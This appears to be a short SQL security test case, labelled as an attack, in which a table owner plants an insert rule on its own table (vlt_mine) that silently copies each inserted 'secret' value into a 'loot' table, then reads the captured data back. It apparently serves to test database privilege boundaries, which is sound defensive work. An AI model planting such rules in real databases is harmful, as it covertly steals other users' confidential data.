-- Plants a rule on an own licensed table that copies what its users write.
-- wants: read
-- attack:
CREATE TABLE loot (s text);
CREATE RULE r AS ON INSERT TO vlt_mine DO ALSO INSERT INTO loot VALUES (NEW.secret);
-- as: owner
INSERT INTO vlt_mine VALUES (100, 'top-secret-4711 new');
-- session: first
SELECT * FROM loot;
